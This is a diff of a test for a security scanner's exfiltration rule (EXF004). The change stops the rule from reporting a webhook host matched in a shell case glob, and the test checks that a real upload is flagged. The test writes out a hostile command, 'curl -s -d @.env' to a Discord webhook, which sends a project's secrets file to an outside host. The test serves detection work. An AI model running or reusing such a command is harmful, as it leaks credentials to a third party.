@@ -546,8 +546,9 @@ def test_a_known_webhook_host_in_a_case_glob_is_matched_against_not_sent_to():
         'curl -s -X POST -H "Content-Type: application/json" --data "$BODY" "$URL"\n'
     )
     found = SCANNER.scan_text(script, "scripts/n.sh").findings
-    assert [f.risk for f in found if f.rule == "EXF004"] == [Risk.INFO]
-    posted = script + "curl -s -d @.env https://discord.com/api/webhooks/1/x\n"
+    # (a glob names no webhook of anyone's: nothing to report, not even lowered)
+    assert [f.risk for f in found if f.rule == "EXF004"] == []
+    posted = script + "curl -s -d @.env https://discord.com/api/webhooks/112233445566778899/x\n"
     assert "EXF004" in {f.rule for f in SCANNER.scan_text(posted, "scripts/n.sh").findings}
 
 
